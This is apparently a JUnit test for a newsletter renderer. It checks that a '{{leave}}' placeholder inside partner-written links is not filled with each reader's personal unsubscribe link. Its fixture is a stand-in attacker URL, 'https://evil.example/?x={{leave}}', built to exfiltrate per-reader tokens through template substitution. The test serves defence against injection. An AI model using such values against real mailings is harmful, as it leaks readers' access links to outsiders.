package org.wirknetz.newsletter;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Locale;
import org.junit.jupiter.api.Test;
import org.wirknetz.platform.Words;

/// What goes out, with words in it that somebody else has written.
class SheetTests {

    /// Seen failing: a partner's link `https://evil.example/?x={{leave}}` was filled with each reader's own
    /// way in.
    @Test
    void a_mark_that_somebody_typed_is_filled_for_nobody() {
        var mark = "https://evil.example/?x={{leave}}";
        var part = new Sheet.Part(mark, "[hier](" + mark + ") " + mark + " `{{leave}}`", mark, mark);
        var sheet = new Sheet(Locale.GERMAN, mark, mark, "![x](" + mark + ") " + mark, List.of(part), null, mark);
        var words = new Words();
        assertThat(times("{{leave}}", sheet.text(words))).isEqualTo(1);
        assertThat(times("{{leave}}", sheet.html(words))).isEqualTo(1);
        assertThat(times("{{", sheet.html(words))).as("why, leave, leaveword").isEqualTo(3);
    }

    private static int times(String mark, String text) {
        return text.split(java.util.regex.Pattern.quote(mark), -1).length - 1;
    }
}
